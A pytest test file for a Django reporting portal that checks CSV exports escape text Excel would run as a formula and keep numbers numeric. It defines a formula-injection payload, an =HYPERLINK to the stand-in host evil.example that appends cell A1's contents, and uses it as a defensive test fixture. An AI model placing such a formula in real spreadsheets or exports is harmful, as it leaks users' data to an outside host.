"""A report's CSV is opened in Excel as readily as its workbook: text that
Excel would run as a formula is written as text, and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from portal.dashboard.periods import first_of_month
from portal.dashboard.selectors import area_for
from portal.models import AreaLevel, ReportStatus
from portal.reports import services
from portal.reports.writers import ReportFiles

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?d="&A1,"点我")'


def csv_rows(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_text_that_excel_would_run_is_written_as_text(tmp_path):
    files = ReportFiles(tmp_path, headers=["区域", "说明", "数值"])
    files.add_sheet("=SUM(A1)")
    for text in [LINK, "+86 138", "-报告", "@SUM(A1)", "\tTAB", "\rCR"]:
        files.write_row([text, "说明", 1])
    files.close()

    rows = csv_rows(files.csv_path)
    assert rows[0] == ["工作表", "区域", "说明", "数值"]
    assert [row[:2] for row in rows[1:]] == [
        ["'=SUM(A1)", f"'{LINK}"],
        ["'=SUM(A1)", "'+86 138"],
        ["'=SUM(A1)", "'-报告"],
        ["'=SUM(A1)", "'@SUM(A1)"],
        ["'=SUM(A1)", "'\tTAB"],
        ["'=SUM(A1)", "'\rCR"],
    ]


def test_numbers_negative_ones_too_stay_numbers(tmp_path):
    files = ReportFiles(tmp_path, headers=["区域", "数值", "目标", "分子", "分母", "状态"])
    files.add_sheet("青秀区")
    files.write_row(["青秀区", -3, Decimal("-12.5"), -0.25, 0, None])
    files.close()

    assert csv_rows(files.csv_path)[1] == ["青秀区", "青秀区", "-3", "-12.5", "-0.25", "0", ""]


def test_a_school_named_like_a_formula_reaches_the_csv_as_text(
    people, city, django_capture_on_commit_callbacks
):
    city.school.name = LINK
    city.school.save()
    area = area_for(people.city_officer, AreaLevel.SCHOOL, city.school.pk)
    month = first_of_month(timezone.localdate())
    with django_capture_on_commit_callbacks(execute=True):
        report = services.request_report(user=people.city_officer, area=area, month=month)
    report.refresh_from_db()
    assert report.status == ReportStatus.DONE, report.error

    with report.csv.open("rb") as handle:
        rows = list(csv.reader(io.StringIO(handle.read().decode("utf-8-sig"))))
    assert len(rows) > 1
    assert {row[1] for row in rows[1:]} == {f"'{LINK}"}
    assert not [cell for row in rows[1:] for cell in row if cell.startswith("=")]
